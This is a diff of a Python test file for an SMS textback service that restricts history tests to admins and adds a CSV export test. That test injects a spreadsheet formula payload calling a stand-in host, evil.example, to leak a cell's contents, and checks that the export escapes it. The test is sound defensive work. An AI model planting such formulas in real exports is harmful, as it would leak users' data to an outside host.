@@ -31,8 +31,10 @@ from tests.conftest import (
     thread,
 )
 from tests.signing import slack_headers
+from tests.test_intake import intake_path, open_form
 
 OTHER = "+12125550142"
+admins = pytest.mark.settings(ADMIN_USER_IDS=CREW_USER)  # a number's history is for admins
 ROOT = Path(__file__).resolve().parent.parent
 
 
@@ -161,6 +163,7 @@ async def test_ledger_keys_carry_the_number_hash_tag_and_never_expire(harness: H
 # --- /textback history -------------------------------------------------------------------------
 
 
+@admins
 @pytest.mark.parametrize(
     "typed", ["(202) 555-0123", "+1 202 555 0123", "2025550123", "+12025550123"]
 )
@@ -182,6 +185,7 @@ async def test_history_shows_the_ledger_for_any_common_number_format(
     assert "Opted out" in lines[3] and "keyword:STOP" in lines[3]
 
 
+@admins
 async def test_history_of_a_bad_number_answers_with_usage(harness: Harness) -> None:
     response = await slash_command(harness, "history 12ab")
     text = await response.text()
@@ -191,6 +195,7 @@ async def test_history_of_a_bad_number_answers_with_usage(harness: Harness) -> N
     assert empty.startswith("Usage:")
 
 
+@admins
 async def test_history_escapes_what_the_caller_wrote(harness: Harness) -> None:
     await harness.caller_text("STOP")
     await harness.drained()
@@ -415,3 +420,23 @@ async def test_already_opted_out_caller_is_not_flagged_again(harness: Harness) -
     await harness.caller_text("seriously stop texting me")
     await harness.drained()
     assert [p for p in harness.slack.posts if p.get("blocks") and p.get("thread_ts")] == []
+
+
+async def test_consent_export_writes_what_a_spreadsheet_would_run_as_text(
+    harness: Harness,
+) -> None:
+    """The user agent and forwarded-for kept with an intake consent are the visitor's to write."""
+    path = await intake_path(harness)
+    form = await open_form(harness, path)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    response = await harness.client.post(
+        path,
+        data={**form, "need": "Outlet", "consent": "yes"},
+        headers={"User-Agent": evil, "X-Forwarded-For": "@SUM(1+1)"},
+    )
+    assert response.status == 200
+    out, _ = await run_export(harness, "--format", "csv")
+    (row,) = [r for r in csv.DictReader(io.StringIO(out)) if r["event"] == "explicit_consent"]
+    assert row["user_agent"] == "'" + evil
+    assert row["forwarded_for"] == "'@SUM(1+1)"
+    assert row["phone"] == CALLER  # E.164 stays as it is
